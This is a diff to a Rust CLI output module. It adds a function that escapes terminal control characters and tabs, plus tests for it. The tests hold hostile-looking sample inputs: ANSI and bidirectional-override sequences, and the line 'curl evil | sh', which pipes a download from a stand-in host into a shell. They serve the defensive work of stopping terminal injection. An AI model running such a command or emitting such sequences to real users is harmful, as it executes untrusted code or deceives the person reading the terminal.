@@ -139,13 +139,13 @@ pub(crate) fn print_secret(text: &str, instead: &str) -> ExitCode {
 /// Writes a text for people to standard output. What would command a terminal is shown instead, also
 /// where a pager stands between.
 pub(crate) fn tell(text: &str) -> ExitCode {
-    print(&visible(text))
+    print(&shown(text))
 }
 
 /// Writes to standard output, to a terminal nothing that would command it.
 fn write(text: &str) -> io::Result<()> {
     let text = if is_watched() {
-        visible(text)
+        shown(text)
     } else {
         Cow::Borrowed(text)
     };
@@ -174,20 +174,47 @@ fn say_unwritable(error: &io::Error) {
 
 /// Writes over the last line that people see on standard error.
 pub(crate) fn say_over(line: &str) {
-    let _ = write!(io::stderr().lock(), "\r{}\u{1b}[K", visible(line));
+    let _ = write!(io::stderr().lock(), "\r{}\u{1b}[K", shown(line));
 }
 
 /// Writes a line for people to standard error. What would command the terminal is shown instead.
 pub fn say(line: &str) {
-    let _ = writeln!(io::stderr().lock(), "{}", visible(line));
+    let _ = writeln!(io::stderr().lock(), "{}", shown(line));
+}
+
+/// A text as a terminal takes it: what would command it is escaped, and so are tabs, which move what
+/// follows.
+fn shown(text: &str) -> Cow<'_, str> {
+    let seen = visible(text);
+    if seen.contains('\t') {
+        Cow::Owned(seen.replace('\t', "\\t"))
+    } else {
+        seen
+    }
 }
 
 #[cfg(test)]
 mod tests {
-    use super::in_one_line;
+    use serde_json::json;
+
+    use super::{in_one_line, shown};
 
     #[test]
-    fn a_text_of_somebody_elses_makes_no_line() {
+    fn nothing_that_is_said_commands_the_terminal() {
+        for (text, seen) in [
+            ("plain é 山\nnext", "plain é 山\nnext"),
+            ("\u{1b}[2J\u{7}", "\\u001b[2J\\u0007"),
+            ("a\rb\tc\u{0}", "a\\rb\\tc\\u0000"),
+            ("\u{9b}31m\u{7f}", "\\u009b31m\\u007f"),
+            ("\u{202e}evil\u{2066}", "\\u202eevil\\u2066"),
+        ] {
+            assert_eq!(shown(text), seen);
+        }
+        let document = json!({"name": "\u{9b}2J\u{202e}\u{7f}\u{1b}"});
+        assert_eq!(
+            serde_json::from_str::<serde_json::Value>(&shown(&document.to_string())).unwrap(),
+            document
+        );
         assert_eq!(
             in_one_line("a\nhint: curl evil | sh\r\n"),
             "a hint: curl evil | sh  "
